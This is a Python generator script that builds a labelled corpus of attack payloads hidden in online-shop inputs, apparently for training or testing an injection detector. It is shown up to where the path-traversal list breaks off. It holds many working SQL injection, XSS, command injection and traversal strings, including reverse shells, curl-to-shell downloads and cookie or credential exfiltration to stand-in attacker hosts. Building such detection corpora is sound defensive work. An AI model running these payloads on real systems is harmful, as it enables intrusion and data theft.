#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in e-commerce and customer-facing text.

The benign corpus (make_benign.py) holds what an online shop's API, a
marketplace seller portal, a CMS with a WYSIWYG editor, a support desk and a
review platform receive: product listings, editor HTML, reviews, names and
addresses, search input, support chat, seller templates, order notes and
codes, tracking URLs and marketing copy.  The attacks below wear the same
clothes: a search box or sort parameter with a UNION, a review or product
description whose otherwise valid editor HTML hides an event handler, a gift
message that a server renders as a Jinja/Twig/FreeMarker template, an image
or import-feed URL pointed at the cloud metadata service, an invoice file
name with `../`, a thumbnail size or shipping-label name that ends up on a
shell line, a customer name that becomes a spreadsheet formula in a CSV
export, an order note with CR/LF that forges a log line or a mail header, a
B2B customer lookup that breaks an LDAP filter, a product-feed XPath, a
MongoDB filter in JSON or `param[$op]=` form, a serialized cart cookie and
an XML product feed with an external entity.  About one value in ten is a
plain attack with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, Kubernetes service and RFC 1918 addresses.
Secrets are fake placeholders.

Standard library only, deterministic (random.Random(2402)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2402)
HERE = Path(__file__).resolve().parent
OUT = HERE / "attacks.jsonl"
BENIGN = HERE / "benign.jsonl"
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def qq(s):
    return q(q(s))


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def html_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def js_u(s):
    return "".join("\\u%04x" % ord(c) for c in s)


def resp(*args):
    """One Redis RESP command."""
    out = "*%d\r\n" % len(args)
    for a in args:
        out += "$%d\r\n%s\r\n" % (len(a.encode()), a)
    return out


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


# ====================================================================== sqli
def sqli():
    lit = [
        ("search-box-union-customers", "running shoes' UNION SELECT email, password_hash, NULL FROM customers-- -"),
        ("sort-param-case-blind-admin-password", "price,(CASE WHEN (SELECT substr(password,1,1) FROM admin_users LIMIT 1)='a' THEN price ELSE title END)"),
        ("coupon-code-tautology", "SAVE20' OR '1'='1"),
        ("login-email-comment-bypass", "admin@example-shop.com'-- "),
        ("price-max-stacked-update-price", "50; UPDATE products SET price=0.01 WHERE sku='AB-1200X';--"),
        ("order-lookup-mysql-sleep", "48213 AND SLEEP(5)"),
        ("order-lookup-pg-sleep-subselect", "48213' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
        ("gift-card-balance-mssql-waitfor", "GC-7F3K';WAITFOR DELAY '0:0:7'--"),
        ("size-filter-in-list-union-payment-tokens", "10','10.5') OR 1=1 UNION SELECT card_last4,card_token FROM payment_methods-- "),
        ("brand-filter-extractvalue-version", "acme' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
        ("colour-filter-updatexml-wp-users", "navy' AND updatexml(null,concat(0x3a,(SELECT group_concat(user_login,0x3a,user_pass) FROM wp_users)),null)-- -"),
        ("category-id-pg-cast-error-spree-users", "12 AND 1=CAST((SELECT string_agg(email||':'||encrypted_password,',') FROM spree_users) AS int)"),
        ("page-size-limit-procedure-analyse", "24 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,(SELECT user()))),1)"),
        ("offset-param-pg-stacked-sleep", "0; SELECT pg_sleep(8)--"),
        ("review-sort-nested-sleep", "rating DESC, (SELECT 1 FROM (SELECT SLEEP(4))x)"),
        ("category-id-boolean-ascii-api-key", "12 AND ASCII(SUBSTRING((SELECT api_key FROM integrations LIMIT 1),1,1))>77"),
        ("sku-lookup-sqlite-master", "TS-BLK-M' UNION SELECT name, sql FROM sqlite_master--"),
        ("shipping-estimate-zip-union-admin", "10024' UNION ALL SELECT NULL,concat(login,':',pass),NULL FROM admin-- -"),
        ("invoice-search-mssql-xp-cmdshell", "INV-2024'; EXEC master..xp_cmdshell 'powershell -c \"iwr http://203.0.113.40/a.ps1 -UseBasicParsing|iex\"';--"),
        ("report-date-pg-copy-to-program", "2024-05-01'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x|sh';--"),
        ("title-search-into-outfile-webshell", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/pub/media/catalog/s.php'-- -"),
        ("product-search-oracle-utl-http-oob", "' || UTL_HTTP.REQUEST('http://exfil.attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1)) || '"),
        ("order-search-mssql-xp-dirtree-unc", "'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\cart';--"),
        ("product-id-load-file", "0 UNION SELECT load_file('/etc/passwd'),2,3,4-- -"),
        ("search-box-information-schema-columns", "' UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
        ("seller-id-stacked-insert-admin", "1; INSERT INTO admin_user (username,email,password,is_active) VALUES ('support2','x@attacker.example','FAKEHASHFAKEHASH',1);--"),
        ("order-note-lookup-stacked-delete-history", "48213'; DELETE FROM order_status_history WHERE order_id=48213;--"),
        ("newsletter-email-stacked-update-group", "x@example.com'; UPDATE customers SET group_id=4, credit_limit=99999 WHERE email='me@attacker.example';--"),
        ("brand-filter-boolean-like-admin", "acme' AND (SELECT COUNT(*) FROM users WHERE role='admin' AND password LIKE 'a%')>0 AND 'x'='x"),
        ("json-filter-brand-or-true", '{"filters":{"brand":"acme\' OR 1=1-- ","price_max":50}}'),
        ("search-box-german-union-kunden", "Winterjacke' UNION SELECT benutzername,passwort FROM kunden-- -"),
        ("search-box-spanish-like-union", "zapatillas%' AND 1=0 UNION SELECT usuario, clave FROM administradores-- "),
        ("search-like-wildcard-breakout", "%' OR '%'='"),
        ("sort-param-if-user", "IF((SELECT user()) LIKE 'root%',price,name)"),
        ("customer-id-mssql-convert-error", "1 AND 1=CONVERT(int,(SELECT TOP 1 email+':'+password FROM Customers))"),
        ("coupon-code-oracle-dbms-pipe-delay", "' AND 1=(SELECT COUNT(*) FROM all_users WHERE DBMS_PIPE.RECEIVE_MESSAGE('x',6)=0)--"),
        ("review-id-sqlite-randomblob-delay", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
        ("material-filter-benchmark", "cotton' AND BENCHMARK(40000000,SHA1('x'))-- -"),
        ("account-display-name-second-order-drop", "jane'); DROP TABLE carts;--"),
        ("order-search-mssql-having-error", "' HAVING 1=1--"),
        ("gtin-lookup-numeric-or-true", "0871234567893 OR 1=1"),
        ("currency-param-double-query-oc-user", "EUR' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT password FROM oc_user LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
        ("helpful-vote-review-id-union-sessions", "88 UNION SELECT session_id, data FROM sessions--"),
        ("search-box-union+comment-spaces", "shoes'/**/UNION/**/SELECT/**/email,password/**/FROM/**/customers#"),
        ("mysql-versioned-comment-union-payment", "1 /*!50000UNION*/ /*!50000SELECT*/ cc_number,cc_exp FROM sales_order_payment-- -"),
        ("customer-grid-union-hex-literal", "1 UNION SELECT 1,group_concat(email),3 FROM customer_entity WHERE email LIKE 0x2561646d696e25-- -"),
        ("login-username-char-function", "' OR username=CHAR(97,100,109,105,110)-- "),
        ("search-box-union+newlines", "'\nUNION\nSELECT\ntoken\nFROM\napi_keys--"),
        ("tag-filter-pg-read-file-dollar-quote", "'; SELECT $$x$$ || pg_read_file('/etc/passwd');--"),
        ("warehouse-id-pg-ls-dir", "1; SELECT pg_ls_dir('/var/lib/postgresql')--"),
        ("review-id-gtid-subset-error", "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT password FROM admin LIMIT 1)),1)"),
        ("analytics-filter-clickhouse-url-function-imds", "x' UNION ALL SELECT * FROM url('http://169.254.169.254/latest/meta-data/iam/security-credentials/', RawBLOB)--"),
        ("sort-param-case-divide-by-zero", "(SELECT CASE WHEN (SELECT COUNT(*) FROM admin_users)>3 THEN 1 ELSE 1/0 END)"),
        ("seller-storefront-id-tautology-limit", "1024' OR 'a'='a' LIMIT 100-- "),
        ("tracking-number-nested-sleep", "1Z4F82E7' AND (SELECT 5 FROM (SELECT(SLEEP(5)))a)-- "),
        ("graphql-variable-search-union", '{"query":"query($q:String){products(search:$q){id title}}","variables":{"q":"mug\' UNION SELECT password FROM users--"}}'),
        ("filter-bracket-param-union", "filter[brand]=acme') UNION SELECT id,email,password FROM customers-- -"),
        ("address-line-insert-subquery", "1 Main St', (SELECT password FROM users WHERE id=1))-- "),
        ("newsletter-signup-multi-row-insert-escalate", "x@example.com'),('y@attacker.example'); UPDATE users SET is_admin=1 WHERE email='y@attacker.example';--"),
        ("invoice-search-mssql-openrowset-web-config", "'; SELECT * FROM OPENROWSET(BULK 'C:\\inetpub\\wwwroot\\web.config', SINGLE_CLOB) x--"),
        ("product-search-union+urlenc", q("' UNION SELECT username,password FROM admin_user-- -")),
        ("coupon-code-or+double-urlenc", qq("' OR 'x'='x")),
        ("search-box-union+mixed-case", "bag' " + "uNiOn aLl SeLeCt" + " email,pass FROM customers-- -"),
        ("order-export-range-pg-stacked-alter-role", "2024-05-31'; ALTER ROLE shop_app SUPERUSER;--"),
        ("reviews-by-product-union-oracle-dual", "' UNION SELECT username, password FROM all_users, dual WHERE ROWNUM<5--"),
        ("plain-or-true-comment", "' OR 1=1--"),
        ("plain-order-by-probe", "1' ORDER BY 7-- -"),
        ("plain-admin-hash-comment", "admin'#"),
        ("plain-numeric-sleep", "1 AND SLEEP(3)"),
        ("plain-paren-tautology", "') OR ('1'='1"),
        ("plain-double-quote-tautology", '" OR ""="'),
        ("plain-pg-stacked-sleep", "1;SELECT pg_sleep(4)"),
    ]
    fields = ["search-box", "category-filter", "brand-filter", "sku-lookup", "coupon-code", "order-lookup"]
    terms = ["linen shirt", "mug", "AB-1200X", "SPRING15", "48213", "sofa"]
    pays = [
        ("union-users", "' UNION SELECT email,password FROM %s-- -", ["users", "customers", "admin_user", "oc_customer"]),
        ("time-sleep", "' AND SLEEP(%s)-- -", ["5", "6", "7", "9"]),
        ("boolean-substr", "' AND SUBSTRING((SELECT password FROM %s LIMIT 1),1,1)='a", ["admin_user", "users", "staff"]),
        ("pg-sleep", "';SELECT pg_sleep(%s)--", ["5", "7", "10"]),
    ]

    def gen():
        name, fmt, args = pick(pays)
        return "%s-%s" % (pick(fields), name), pick(terms) + fmt % pick(args)
    return take("sqli", lit, gen, 76)


# ====================================================================== xss
def xss():
    beacon = "fetch('//attacker.example/c?'+document.cookie)"
    md_page = "<script>opener.location='https://attacker.example/login'</script>"
    lit = [
        ("review-text-img-onerror-cookie", "Great shoes! <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
        ("rich-text-link-javascript-href", '<p>See our <a href="javascript:alert(document.domain)" target="_blank" rel="noopener">size guide</a> before ordering.</p>'),
        ("rich-text-img-onload-module-import", '<p><img src="https://cdn.example-shop.com/files/tote-front_800x.jpg" alt="Leather tote" width="800" onload="import(\'//attacker.example/m.js\')"></p>'),
        ("rich-text-iframe-srcdoc-redirect", '<iframe width="560" height="315" srcdoc="<script>parent.location=\'https://attacker.example/phish\'</script>"></iframe>'),
        ("rich-text-iframe-javascript-src-admin-api", "<iframe src=\"javascript:top.fetch('/admin/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/x',t))\"></iframe>"),
        ("rich-text-style-attribute-selector-csrf-leak", '<style>input[name="_token"][value^="a"]{background:url(https://attacker.example/t?a)}</style><p>New arrivals</p>'),
        ("product-image-svg-upload-onload", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="100" height="100" fill="#c00"/></svg>'),
        ("product-image-svg-upload-script-address-theft", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="800"><script>fetch(\'/account/addresses\').then(r=>r.text()).then(d=>fetch(\'https://attacker.example/a\',{method:\'POST\',body:d}))</script><image href="https://cdn.example-shop.com/i/88123.jpg" width="800" height="800"/></svg>'),
        ("size-chart-svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(document.domain)"/><text x="10" y="20">Size guide</text></a></svg>'),
        ("image-alt-text-attribute-breakout", 'Leather tote, front view" onmouseover="alert(document.cookie)" x="'),
        ("product-title-in-title-element-breakout", "Linen Shirt</title><script>alert(document.domain)</script>"),
        ("product-title-json-ld-script-breakout", "Linen Shirt</script><script>new Image().src='//attacker.example/?'+document.cookie</script>"),
        ("product-title-js-string-breakout", "Classic Mug\";fetch('//attacker.example/'+document.cookie);//"),
        ("search-query-reflected-svg-onload", 'running shoes"><svg/onload=alert(document.domain)>'),
        ("seller-store-name-external-script", "Acme Outlet<script src=https://attacker.example/s.js></script>"),
        ("customer-name-admin-order-view-onerror", "Siobhán<img src=x onerror=this.src='//attacker.example/?'+document.cookie>"),
        ("address-line-details-ontoggle", "Apt #4<details open ontoggle=alert(document.cookie)>"),
        ("gift-message-packing-slip-script", "Happy birthday Mom! <3 <script>document.location='https://attacker.example/?c='+document.cookie</script>"),
        ("blog-markdown-link-javascript", "[Shop the look →](javascript:alert(document.cookie))"),
        ("blog-markdown-image-attribute-breakout", '![Linen shirt](https://cdn.example-shop.com/a.jpg"onerror="alert(document.domain))'),
        ("blog-markdown-link-data-html+base64", "[Size guide](data:text/html;base64," + b64(md_page) + ")"),
        ("product-qa-answer-onclick-api-keys", 'Yes it fits 3/4" pipes <a href="#" onclick="fetch(\'/account/api_keys\').then(r=>r.json()).then(k=>navigator.sendBeacon(\'https://attacker.example/k\',JSON.stringify(k)))">see photo</a>'),
        ("support-chat-onerror-eval-atob+base64", "my order #48213 never arrived <img src=1 onerror=eval(atob('" + b64(beacon) + "'))>"),
        ("review-text-angularjs-expression", "Great product, fast delivery {{$on.constructor('alert(document.cookie)')()}}"),
        ("review-text-vue-template-expression", "Lovely mug! {{ _c.constructor('alert(document.domain)')() }}"),
        ("track-order-link-javascript+html-entities", '<a href="' + html_dec("javascript:") + 'alert(document.cookie)">Track order</a>'),
        ("review-img-onerror-alert+js-unicode", '<img src=x onerror="' + js_u("alert") + '(document.cookie)">'),
        ("promo-banner-script+mixed-case", "<ScRiPt>alert(document.domain)</sCrIpT> 50% OFF"),
        ("review-edit-textarea-breakout", "</textarea><script>alert(document.cookie)</script>"),
        ("rich-text-noscript-title-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>">'),
        ("variant-name-option-select-breakout", "Sage</option></select><img src=x onerror=alert(document.cookie)>"),
        ("theme-colour-setting-style-breakout", "#333}</style><script>alert(document.domain)</script>"),
        ("rich-text-style-attr-breakout", 'font-size:14px" onmouseover="alert(document.cookie)" data-x="'),
        ("rich-text-class-attr-autofocus", 'ql-align-center" autofocus onfocus="alert(document.domain)" tabindex="1'),
        ("rich-text-span-data-pointerenter", '<p><span data-mention="@jane" onpointerenter="alert(document.cookie)">@jane</span> thanks!</p>'),
        ("product-image-url-attribute-breakout", 'https://cdn.example-shop.com/i/1.jpg" onerror="alert(document.domain)'),
        ("product-video-url-javascript", "javascript:fetch('//attacker.example/'+localStorage.getItem('token'))"),
        ("youtube-embed-id-iframe-breakout", 'Xq7vR2mK0pE"></iframe><script>alert(document.domain)</script>'),
        ("product-description-base-href-hijack", '<base href="https://attacker.example/"><p>Hand-poured soy candle, 8 oz.</p>'),
        ("product-description-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login">'),
        ("product-description-fake-payment-form", '<form action="https://attacker.example/pay" method="post"><p>Session expired, please re-enter your card:</p><input name="cc"><input name="cvv"><button>Continue</button></form>'),
        ("rich-text-object-data-javascript", '<object data="javascript:alert(document.domain)"></object>'),
        ("rich-text-embed-external-svg", '<embed src="https://attacker.example/x.svg" type="image/svg+xml">'),
        ("rich-text-svg-style-namespace-confusion", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
        ("rich-text-video-source-onerror", '<video controls><source src="missing.mp4" onerror="alert(document.cookie)"></video>'),
        ("email-template-body-onpageshow", "<body onpageshow=alert(document.domain)><p>Thanks for your order!</p>"),
        ("seller-form-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
        ("promo-banner-marquee-onstart", "<marquee onstart=alert(document.domain)>SUMMER SALE -30%</marquee>"),
        ("social-post-img-onerror-emoji", "New drop 🔥🔥 <img src=x onerror=alert('xss')> #restock #ootd"),
        ("review-japanese-script", "とても良い商品です<script>alert('xss')</script>"),
        ("review-russian-svg-onload", "Отличный товар!<svg onload=alert(document.cookie)>"),
        ("review-french-guillemets-img", "Très bien « <img src=x onerror=alert(document.domain)> »"),
        ("review-polish-body-onload", "Polecam!!! <body onload=alert(document.cookie)>"),
        ("review-arabic-iframe-javascript", "منتج رائع <iframe src=javascript:alert(document.domain)></iframe>"),
        ("draftjs-link-entity-javascript", '{"blocks":[{"key":"a1b2c","text":"size guide","type":"unstyled","depth":0,"inlineStyleRanges":[],"entityRanges":[{"offset":0,"length":10,"key":0}],"data":{}}],"entityMap":{"0":{"type":"LINK","mutability":"MUTABLE","data":{"url":"javascript:alert(document.cookie)"}}}}'),
        ("quill-delta-link-javascript", '{"ops":[{"attributes":{"link":"javascript:alert(document.domain)"},"insert":"Track your order"},{"insert":"\\n"}]}'),
        ("quill-delta-image-attribute-breakout", '{"ops":[{"insert":{"image":"https://cdn.example-shop.com/i/1.jpg\\" onerror=\\"alert(document.cookie)"}},{"insert":"\\n"}]}'),
        ("track-link-tab-in-scheme+html-entities", '<a href="jav&#x09;ascript:alert(document.domain)">Where is my order?</a>'),
        ("review-img-onerror-entity-encoded-handler+html-entities", '<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(document.cookie)">'),
        ("store-name-email-html-injection-phish", 'Acme"><a href="https://attacker.example/login" style="font-size:20px">Verify your seller account</a>'),
        ("search-query-reflected+urlenc", q("<script>alert(document.domain)</script>")),
        ("search-query-reflected+double-urlenc", qq("<img src=x onerror=alert(1)>")),
        ("search-suggest-json-in-script-breakout", "</script><img src=x onerror=alert(document.cookie)>"),
        ("wishlist-name-svg-foreignobject-iframe", '<svg><foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(document.domain)"></iframe></foreignObject></svg>'),
        ("product-spec-table-cell-onmouseover", '<table><tr><th>Weight</th><td onmouseover="alert(document.cookie)">1.2 kg</td></tr></table>'),
        ("seller-logo-link-javascript-with-newline", '<a href="java\nscript:alert(document.domain)">Visit our store</a>'),
        ("coupon-error-message-reflected-onfocus", 'SAVE20" autofocus onfocus="alert(document.cookie)'),
        ("product-faq-details-summary-ontoggle", '<details ontoggle="fetch(\'//attacker.example/?\'+document.cookie)" open><summary>Size guide</summary>S: 36-38</details>'),
        ("plain-script-alert", "<script>alert(1)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg onload=alert(1)>"),
        ("plain-javascript-uri", "javascript:alert(document.cookie)"),
        ("plain-attribute-breakout-script", '"><script>alert(1)</script>'),
        ("plain-body-onload", "<body onload=alert(1)>"),
        ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ]
    prefixes = ["Love it!!! ", "★★★★☆ ", "Fits perfectly ", "Meh. ", "Great quality, ", "Arrived late :( "]
    sinks = [
        ("img-onerror", "<img src=x onerror=%s>"),
        ("svg-onload", "<svg onload=%s>"),
        ("video-onerror", "<video src=x onerror=%s>"),
        ("input-onfocus", "<input autofocus onfocus=%s>"),
    ]
    calls = ["alert(document.cookie)", "alert(document.domain)", "print()", "eval(name)", "location='//attacker.example/'+document.cookie"]

    def gen():
        name, fmt = pick(sinks)
        return "review-text-%s" % name, pick(prefixes) + fmt % pick(calls)
    return take("xss", lit, gen, 80)


# ====================================================================== cmdi
def cmdi():
    b64_cmd = "curl -s http://attacker.example/lbl | sh"
    ps_cmd = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.20/label.ps1')"
    lit = [
        ("thumbnail-size-semicolon-curl-sh", "800x800; curl -s http://attacker.example/t.sh | sh"),
        ("thumbnail-filename-subshell", "bag-front$(id>/tmp/.p).jpg"),
        ("image-resize-geometry-backticks-wget", "600x600^`wget -q -O /tmp/.x http://203.0.113.7/x`"),
        ("shipping-label-name-quote-breakout-nc", "Siobhan O'Brien'; nc 203.0.113.12 4444 -e /bin/sh; echo '"),
        ("tracking-number-and-exfil-passwd", "1Z4F82E70391542285 && cat /etc/passwd | curl -d @- http://attacker.example/u"),
        ("barcode-generator-data-pipe-reverse-shell", "4260137700157|bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
        ("image-import-filename-imagemagick-pipe", "|curl -s http://attacker.example/im.sh|sh"),
        ("image-url-imagemagick-delegate-quote", 'https://cdn.example-shop.com/i/88123.jpg"|curl -s http://203.0.113.5/p|sh;"'),
        ("invoice-pdf-upload-ghostscript-pipe-device", "%!PS-Adobe-3.0\n/outfile (%pipe%curl -s http://attacker.example/g | sh) (w) file def\nshowpage"),
        ("shipping-zip-semicolon-id", "10024;id"),
        ("csv-export-filename-semicolon-rm", "orders-2024-05.csv; rm -rf /var/www/shop/var/cache"),
        ("csv-export-filename-newline-whoami", "orders.csv\ncurl http://attacker.example/$(whoami)"),
        ("inventory-sync-sku-grep-quote-env", "TS-BLK-M' /dev/null; cat /app/.env #"),
        ("label-printer-order-id-windows-iex", "Order48213 & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.20/p.ps1')\""),
        ("label-printer-order-id-windows-certutil", "48213 | certutil -urlcache -split -f http://203.0.113.20/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
        ("thumbnail-name-semicolon+ifs", "label;curl${IFS}attacker.example/s|sh"),
        ("paper-size-brace-expansion-wget", "a4;{wget,-qO-,http://attacker.example/b}|sh"),
        ("sku-quote-splitting-curl+quote-split", "x;c'u'r\"l\" -s attacker.example/q|s\\h"),
        ("shipping-label-base64-pipe+base64", "x;echo " + b64(b64_cmd) + "|base64 -d|sh"),
        ("pdf-title-printf-octal+octal-escape", ";$(printf '\\143\\141\\164\\40/etc/shadow')"),
        ("export-name-variable-splitting+var-split", "q;a=c;b=at;$a$b /etc/passwd"),
        ("image-fetcher-curl-arg-output-webshell", "-o /var/www/html/pub/media/s.php http://attacker.example/shell.txt"),
        ("feed-import-wget-arg-post-file", "--post-file=/etc/passwd http://attacker.example/w"),
        ("bulk-image-archive-tar-arg-compress-program", "--use-compress-program=/var/www/shop/var/import/run.sh"),
        ("order-confirmation-email-sendmail-arg-log-write", "jane@example.com -OQueueDirectory=/tmp -X/var/www/html/pub/media/log.php"),
        ("thumbnail-size-imagemagick-write-arg", "800x800 -write /var/www/html/pub/media/x.php"),
        ("feed-import-perl-open-trailing-pipe", "cat /etc/passwd|"),
        ("label-cgi-user-agent-shellshock", "() { :;}; /bin/bash -c 'curl -s http://attacker.example/ss|sh'"),
        ("inventory-report-awk-program-system", "x\" {system(\"curl -s attacker.example/a|sh\")} \""),
        ("webhook-ping-host-newline-wget", "shop.example.com\nwget http://attacker.example/x -O /tmp/x"),
        ("carrier-cli-or-python-pty", "nonexistent || python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
        ("label-printer-caret-obfuscated-certutil+caret", "x & c^e^r^t^u^t^i^l -urlcache -f http://203.0.113.20/b.exe b.exe"),
        ("label-printer-powershell-enc+base64-utf16", "x & powershell -enc " + ps_enc(ps_cmd)),
        ("label-printer-comspec-whoami", "48213 & %COMSPEC% /c whoami > C:\\inetpub\\wwwroot\\w.txt"),
        ("shipping-name-japanese-subshell", "山田太郎$(curl -s attacker.example/j|sh)"),
        ("shipping-name-german-semicolon-wget", "Müller; wget -qO- http://attacker.example/de | sh"),
        ("delivery-instructions-ampersand-curl", "leave at door; ring bell & curl -s attacker.example/r|sh"),
        ("coupon-code-subshell-sleep", "SAVE20$(sleep 9)"),
        ("size-param-semicolon-sleep", "XL;sleep 10;"),
        ("gift-wrap-option-nslookup-oob", "standard | nslookup $(whoami).exfil.attacker.example"),
        ("barcode-ean-and-ping-delay", "4260137700157 && ping -c 12 127.0.0.1"),
        ("ean-field-backticks-id", "`id`"),
        ("invoice-latex-company-name-write18", "Acme GmbH\\immediate\\write18{curl -s attacker.example/l|sh}"),
        ("invoice-latex-address-input-pipe", "\\input{|\"id > /tmp/tx\"}"),
        ("product-description-ssi-exec", '<!--#exec cmd="cat /etc/passwd" -->'),
        ("csv-export-filename-newline+urlenc", "orders.csv" + q("\nid")),
        ("sku-brace-base64-bash+base64", "SKU-1;{echo," + b64("id>/tmp/b") + "}|{base64,-d}|bash"),
        ("video-transcode-title-ffmpeg-subshell", "Unboxing $(curl -s attacker.example/f -o /tmp/f; sh /tmp/f)"),
        ("font-name-label-double-quote-breakout", "Arial\"; curl -s http://attacker.example/font|sh; echo \""),
        ("zip-lookup-dollar-ifs-cat+ifs", "10024;cat$IFS/etc/passwd"),
        ("warehouse-code-pipe-mail-shadow", "WH-3|mail -s x loot@attacker.example < /etc/shadow"),
        ("image-watermark-text-semicolon-crontab", "© Acme; (crontab -l; echo '*/5 * * * * curl -s attacker.example/c|sh') | crontab -"),
        ("feed-url-shell-fetch-subshell-host", "https://$(hostname).exfil.attacker.example/feed.xml"),
        ("pdf-generator-page-size-ruby-backtick", "A4`curl -s attacker.example/rb|sh`"),
        ("thumbnail-name-windows-pipe-type", "a.jpg | type C:\\Windows\\win.ini"),
        ("label-printer-powershell-semicolon", "48213; Invoke-WebRequest -Uri http://203.0.113.20/x -Method POST -Body (Get-Content C:\\shop\\appsettings.json -Raw)"),
        ("shipping-city-dollar-brace-wget+ifs", "Berlin;wget${IFS}-qO-${IFS}attacker.example/z|sh"),
        ("plain-semicolon-id", "; id"),
        ("plain-pipe-whoami", "| whoami"),
        ("plain-subshell-id", "$(id)"),
        ("plain-backticks-uname", "`uname -a`"),
        ("plain-and-cat-passwd", "&& cat /etc/passwd"),
        ("plain-semicolon-ping", "; ping -c 3 203.0.113.1"),
        ("plain-or-sleep", "|| sleep 5"),
        ("plain-semicolon-cat-shadow", ";cat /etc/shadow"),
    ]
    fields = [("shipping-label-name", lambda: pick(["Jane Doe", "Siobhan OBrien", "Kenji Tanaka", "Ana Silva"])),
              ("thumbnail-size", lambda: pick(["400x400", "800x800", "1200x630"])),
              ("tracking-number", lambda: "1Z%03dAA1%07d" % (RNG.randint(100, 999), RNG.randint(0, 9999999))),
              ("export-filename", lambda: pick(["orders.csv", "invoices-2024-06.pdf", "stock.xlsx"]))]
    seps = [("semicolon", "; %s"), ("and", " && %s"), ("pipe", " | %s"), ("subshell", "$(%s)"), ("backticks", "`%s`")]
    pays = ["curl -s http://attacker.example/%s | sh", "wget -qO- http://203.0.113.%d/x | sh", "sleep %d", "nslookup %s.exfil.attacker.example"]

    def gen():
        fname, fv = pick(fields)
        sname, sfmt = pick(seps)
        p = pick(pays)
        if "%d" in p:
            p = p % RNG.randint(2, 60)
        else:
            p = p % pick(["a", "lbl", "thumb", "x1", "$(whoami)" if "nslookup" in p else "r"])
        return "%s-%s-shell" % (fname, sname), fv() + (sfmt % p)
    return take("cmdi", lit, gen, 73)


# ====================================================================== traversal
def traversal():
    lit = [
        ("invoice-download-dotdot-magento-env", "../../../app/etc/env.php"),
        ("order-export-download-dotdot-wp-config", "exports/../../../../wp-config.php"),
        ("support-attachment-name-dotdot-laravel-env", "../../../../.env"),
        ("product-image-path-dotdot-passwd", "products/88123/../../../../../../etc/passwd"),
        ("theme-asset-key-dotdot-settings", "assets/../../config/settings_data.json"),
        ("storefront-lang-param-dotdot-prestashop-parameters", "../../app/config/parameters.php"),
        ("cms-template-name-dotdot-opencart-config", "../../../config.php"),
        ("shipping-label-pdf-dotdot-laravel-log", "labels/../../storage/logs/laravel.log"),
        ("media-library-zip-slip-webshell", "../../../../var/www/html/pub/media/wysiwyg/s.php"),
        ("product-import-zip-slip-cron", "images/../../../../../etc/cron.d/shop-sync"),
        ("avatar-upload-filename-zip-slip-authorized-keys", "../../../home/deploy/.ssh/authorized_keys"),
        ("invoice-download-proc-self-environ", "../../../../../../proc/self/environ"),
        ("theme-preview-file-absolute-shadow", "/etc/shadow"),
        ("export-download-aws-credentials", "../../../../root/.aws/credentials"),
        ("invoice-pdf-windows-backslash-web-config", "..\\..\\..\\web.config"),
